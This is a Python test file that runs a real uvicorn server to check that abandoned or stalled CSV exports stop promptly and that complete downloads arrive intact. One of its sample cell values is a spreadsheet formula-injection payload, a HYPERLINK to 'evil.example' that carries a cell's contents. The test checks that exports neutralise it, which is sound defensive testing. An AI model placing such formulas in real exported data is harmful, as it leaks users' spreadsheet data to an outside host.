"""loader/site/plugins/disconnect.py: a CSV download stops with its reader, on a real uvicorn.

The server is uvicorn with one worker (the process itself) serving a table
of 300 MB of CSV, a view without rowids whose CSV has no end in sight, and a
small table of awkward cells; what an export costs is read from /proc: the
worker's CPU time and its /-/csv helper processes."""

from __future__ import annotations

import csv
import io
import os
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator

import pytest

from loader import PROJECT_ROOT
from loader.site.plugins import csv_bom, disconnect, memory_release
from loader.site.serve import ALLOCATOR, write_inspect_file
from loader.site.worker import DATABASE_VARIABLE
from tests.support.site_helpers import children_of, cpu_seconds, free_port, proc_file, wait_until_served

PORT = free_port()
ROWS = 300_000
SEND_SECONDS = disconnect.SEND_SECONDS
AWKWARD = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', 'two\nlines, "quoted"', "Erdoğan", "-3", "x" * 20_000]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, int]]:
    """The base URL and process id of a server of one worker (uvicorn's own
    process) running the site's app, stopped at the end."""
    db = tmp_path_factory.mktemp("disconnect") / "big.db"
    conn = sqlite3.connect(db)
    conn.execute("CREATE TABLE t (id INTEGER PRIMARY KEY, text TEXT)")
    conn.execute(
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?) "
        "INSERT INTO t (text) SELECT printf('row %d %.1000c', i, 'x') FROM n",
        [ROWS],
    )
    conn.execute("CREATE VIEW pairs AS SELECT a.id AS a, b.id AS b, a.text AS text FROM t AS a, t AS b")
    conn.execute("CREATE TABLE small (id INTEGER PRIMARY KEY, text TEXT)")
    conn.executemany("INSERT INTO small (text) VALUES (?)", [(AWKWARD[i % len(AWKWARD)],) for i in range(2_000)])
    conn.commit()
    conn.close()
    write_inspect_file(db)
    process = subprocess.Popen(
        [
            *(sys.executable, "-m", "uvicorn", "--factory", "loader.site.worker:app", "--app-dir", str(PROJECT_ROOT)),
            *("--workers", "1", "--host", "127.0.0.1", "--port", str(PORT), "--no-access-log"),
        ],
        env={**os.environ, **ALLOCATOR, DATABASE_VARIABLE: str(db)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    base = f"http://127.0.0.1:{PORT}"
    try:
        wait_until_served(f"{base}/-/versions.json", process)
        yield base, process.pid
    finally:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:  # a download it still waits for
            process.kill()
            process.wait()


def helpers(pid: int) -> list[int]:
    """The server's /-/csv helper processes still running."""
    return [child for child in children_of(pid) if b"csv_export" in proc_file(child, "cmdline")]


def open_download(path: str) -> socket.socket:
    """A connection that has asked for path and read its first 64 KB."""
    client = socket.create_connection(("127.0.0.1", PORT))
    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
    client.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())
    received = 0
    while received < 65536:
        chunk = client.recv(65536 - received)
        assert chunk, "the server closed the download before 64 KB"
        received += len(chunk)
    return client


def wait_idle(pid: int, within: float) -> float:
    """Seconds until the server spent under a tenth of its time on the CPU for
    half a second and ran no helper; fails after `within` seconds."""
    start = time.monotonic()
    while time.monotonic() - start < within:
        before = cpu_seconds(pid)
        time.sleep(0.5)
        if cpu_seconds(pid) - before < 0.05 and not helpers(pid):
            return time.monotonic() - start
    pytest.fail(f"the server was still exporting {within:g} s after the reader went")


# Its bound is the server's CPU time in one second, which a parallel
# neighbour's work would stretch: run apart from the others (make test's serial run).
@pytest.mark.serial
@pytest.mark.parametrize(
    "path",
    ["/-/csv/big/t.csv", "/-/csv/big/pairs.csv", "/big/t.csv?_stream=on&_size=max", "/-/csv/big/t.csv?_bom=on"],
)
def test_an_abandoned_download_stops_within_a_second(server: tuple[str, int], path: str) -> None:
    """Today every one of these goes on for seconds (the view, for ever) after the reader hangs up."""
    _, pid = server
    wait_idle(pid, 30)
    client = open_download(path)
    if path.startswith("/-/csv/big/t.csv"):
        assert helpers(pid), "the export of a large table runs a helper process"
    client.close()
    closed = time.monotonic()
    # Every child gone and reaped, not only stopped: a stopped helper's CPU time
    # joins the server's (cpu_seconds counts reaped children) only when it is
    # reaped, which would otherwise fall within the second measured below.
    while children_of(pid) and time.monotonic() - closed < 1:
        time.sleep(0.05)
    assert not children_of(pid)
    # The export grew the worker, which gives that memory back RELEASE_DELAY_SECONDS
    # after the request ends (memory_release.py): one collection, up to a tenth of
    # a second, which fell in the second measured below and failed a run alone.
    # An export that went on would still be running after it.
    time.sleep(memory_release.RELEASE_DELAY_SECONDS + 0.5)
    before = cpu_seconds(pid)
    time.sleep(1)
    assert cpu_seconds(pid) - before < 0.1


def test_a_reader_that_stops_reading_is_let_go(server: tuple[str, int]) -> None:
    """A reader that takes nothing more holds no helper and no export once
    SEND_SECONDS have passed with its buffers full; its download ends broken
    (no last chunk), not short and seemingly whole; and the worker's helper
    is free for the next download. Today the helper waits for as long as the
    reader keeps the connection open."""
    _, pid = server
    wait_idle(pid, 30)
    client = open_download("/-/csv/big/t.csv")
    assert helpers(pid)
    wait_idle(pid, SEND_SECONDS + 10)
    client.settimeout(10)
    tail = b""
    while chunk := client.recv(1 << 20):
        tail = (tail + chunk)[-16:]
    client.close()
    assert not tail.endswith(b"\r\n0\r\n\r\n")
    with open_download("/-/csv/big/t.csv"):
        assert helpers(pid)


def test_a_whole_download_still_comes_out_whole(server: tuple[str, int]) -> None:
    """Sent in slices, neutralised as it streams: cells of every kind over a real socket."""
    base, _ = server
    expected = [["id", "text"]] + [[str(i + 1), AWKWARD[i % len(AWKWARD)]] for i in range(2_000)]
    neutralised = csv_bom.neutralised
    for path, rows in [
        ("/-/csv/big/small.csv", expected),
        ("/big/small.csv?_stream=on&_size=max", expected),
        ("/-/csv/big/small.csv?_bom=on", [[neutralised(cell) for cell in row] for row in expected]),
    ]:
        with urllib.request.urlopen(base + path) as response:
            text = response.read().decode("utf-8-sig")
        assert list(csv.reader(io.StringIO(text))) == rows, path


def chunk_sizes(path: str) -> list[int]:
    """The sizes of the chunks of path's chunked answer, as they came over the socket."""
    with socket.create_connection(("127.0.0.1", PORT)) as client:
        client.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode())
        raw = b""
        while data := client.recv(1 << 20):
            raw += data
    head, _, body = raw.partition(b"\r\n\r\n")
    assert b"transfer-encoding: chunked" in head.lower()
    sizes: list[int] = []
    while True:
        line, _, body = body.partition(b"\r\n")
        size = int(line, 16)
        if not size:
            return sizes
        sizes.append(size)
        body = body[size + 2 :]


def test_a_row_a_message_reaches_the_socket_in_slices(server: tuple[str, int]) -> None:
    """Datasette's `_stream=on` hands over each row as a message of its own; sent
    as they came, 2,001 rows were 2,001 writes to the socket (and chunks)."""
    sizes = chunk_sizes("/big/small.csv?_stream=on&_size=max")
    assert len(sizes) <= sum(sizes) // disconnect.SLICE + 2
    assert all(size <= disconnect.SLICE for size in sizes)
